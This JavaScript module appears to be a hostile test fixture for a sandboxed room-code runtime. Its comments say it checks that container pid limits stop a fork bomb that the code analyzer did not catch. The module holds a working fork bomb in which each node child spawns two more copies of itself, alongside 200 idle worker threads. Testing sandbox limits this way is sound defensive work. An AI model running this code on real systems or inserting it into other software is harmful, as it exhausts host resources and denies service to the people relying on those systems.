// Hostile: a fork bomb. The analyzer refuses `child_process`, but the container is the boundary:
// here the module spawns node processes that spawn more, and piles up worker threads, until the
// pids limit says no (EAGAIN). room.state.bomb reports what it managed.
const childProcess = require('child_process');
const { Worker } = require('worker_threads');

// Each child tries to start two more copies of itself and then sleeps: exponential until the limit.
const CHILD = `
const { spawn } = require('child_process');
for (let i = 0; i < 2; i++) {
  try { spawn(process.execPath, ['-e', process.argv[1], process.argv[1]], { stdio: 'ignore' }).on('error', () => {}); } catch {}
}
setTimeout(() => {}, 60000);
`;

module.exports = {
  onCreate(room) {
    const bomb = { spawned: 0, spawnErrors: {}, workers: 0, workerErrors: {} };
    const count = (bag, err) => { const key = err.code || err.name; bag[key] = (bag[key] || 0) + 1; };
    for (let i = 0; i < 200; i++) {
      try {
        const child = childProcess.spawn(process.execPath, ['-e', CHILD, CHILD], { stdio: 'ignore' });
        child.on('error', (err) => count(bomb.spawnErrors, err));
        if (child.pid) bomb.spawned += 1;
      } catch (err) {
        count(bomb.spawnErrors, err);
      }
    }
    for (let i = 0; i < 200; i++) {
      try {
        const w = new Worker('setInterval(() => {}, 1000)', { eval: true });
        w.on('error', (err) => count(bomb.workerErrors, err));
        w.on('online', () => { bomb.workers += 1; });
      } catch (err) {
        count(bomb.workerErrors, err);
      }
    }
    // Report after the dust settles.
    setTimeout(() => { room.state = { bomb }; }, 3000);
    room.state = {};
  },
};
